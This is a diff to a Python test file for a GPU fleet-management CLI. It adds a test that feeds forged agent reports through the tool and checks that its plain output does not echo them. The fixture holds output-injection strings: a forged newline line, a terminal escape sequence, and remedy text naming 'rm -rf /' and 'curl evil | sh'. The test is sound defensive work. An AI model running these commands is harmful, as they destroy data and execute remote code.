@@ -10,6 +10,7 @@ from collections.abc import Iterable, Sequence
 from dataclasses import replace
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
+from types import SimpleNamespace
 from typing import Any
 from xml.etree import ElementTree
 
@@ -18,12 +19,14 @@ import pytest
 from click.testing import CliRunner
 from prometheus_client.parser import text_string_to_metric_families
 
+from gpunode.agent.collected import Collected
+from gpunode.base import explained
 from gpunode.base.disruption import Disruption
 from gpunode.base.findings import CLUSTER, Finding, FindingClass, NodeReport, cluster_of, nodes_of
 from gpunode.base.messages import Scope
 from gpunode.cli import agent
 from gpunode.cli.rollout import say_head
-from gpunode.fleet import bundles
+from gpunode.fleet import bundles, nodes
 from gpunode.fleet.call import Call
 from gpunode.fleet.engine import readings
 from gpunode.fleet.engine.parts import Scheduler
@@ -56,6 +59,7 @@ from gpunode.kubernetes.nodes.cordon import CORDON
 from gpunode.node.plan import Plan
 from tests.reference.schemas import changes_schema, drift_schema, findings_schema, rollout_schema
 from tests.support.cluster_fleet import Fleet, fleet
+from tests.support.messages import unnamed
 from tests.support.rollout_waves import AT
 from tests.support.snapshots import COLUMNS, check_snapshot
 
@@ -167,7 +171,8 @@ def _changes(place: Place) -> list[tuple[str, str | None, str | None]]:
     """Return what happened to whom."""
     with asking(place) as connection:
         found = changes(connection, Question(), BEGIN - timedelta(hours=1), BEGIN + timedelta(hours=3))
-    jsonschema.validate(of_changes(place, None, found, BEGIN, BEGIN), changes_schema())
+    told_of = of_changes(place, None, found, BEGIN, BEGIN)
+    jsonschema.validate({**told_of, "changes": list(told_of["changes"])}, changes_schema())
     return [
         (each.kind.value, each.host, side.key[1] if (side := each.after or each.before) is not None else None)
         for each in found
@@ -181,6 +186,7 @@ def test_nothing_of_the_cluster_happens_where_the_first_node_goes_and_comes(lack
     ]  # fmt: skip
     with asking(place) as connection:
         found = of_findings(place, None, answers(connection, Question()))
+        found["findings"] = list(found["findings"])
         assert known(connection)[0].hosts == 3
     jsonschema.validate(found, findings_schema())
     assert found["counts"] == {"hosts": 0, "findings": 1}
@@ -222,6 +228,32 @@ def test_what_agents_report_ends_nothing_of_the_cluster(
     jsonschema.validate(collected, drift_schema(optional=("cluster",)))
     record(place, told({**collected, "at": (BEGIN + timedelta(minutes=30)).isoformat()}), "fleet.py")
     assert done.exit_code == 0 and _changes(place) == [("began", CLUSTER, RELEASE)]
+
+
+def test_a_report_draws_no_line_of_its_own_and_names_no_command(
+    lacking: Fleet, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    lie = Finding(
+        "driver", FindingClass.DRIFT, "module\ngpu-2: ok, 9 of 9 as desired", code="driver.all-good"
+    ).to_json()
+    lie |= {"actual": "570\n  remedy  `rm -rf /`", "cause": "x\r\x1b[2Jgpu-2: ok", "remedy": "`curl evil | sh`"}
+    host = {"class": "drift", "summary": None, "findings": [lie]}
+    now = datetime.now(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
+
+    def answer(name: str, at: str) -> SimpleNamespace:
+        report = {"at": at, "exit_code": 2, "agent": {"last_success": now}, "hosts": {name: host}}
+        return SimpleNamespace(name=name, reading=Collected(True, report))
+
+    answers = [answer("gpu-1", now), answer("gpu-2", "2036-01-01T00:00:00Z")]
+    monkeypatch.setattr(nodes, "read", lambda *_, **__: answers)
+    done = CliRunner().invoke(agent.collect, ["--output", "plain", str(lacking.inventory)])
+    lines = [line.split(maxsplit=1) for line in done.stdout.splitlines()]
+    assert done.exit_code == 1 and not [line for line in lines if line == ["gpu-2:", "ok, 9 of 9 as desired"]]
+    assert [rest for label, rest in lines if label == "remedy"] == [
+        "see `gpunode explain report.unknown-code`", explained.pages()["agent.clock"].remedies[0],
+    ]  # fmt: skip
+    assert unnamed(done.stdout, "[report.unknown-code]", "[agent.clock]") == []
+    assert not [text for text in ("[driver.all-good]", "`curl", "`rm") if text in done.stdout]
 
 
 @pytest.mark.parametrize(("later", "end"), [("limit", None), ("away", None), ("whole", "no longer told")])
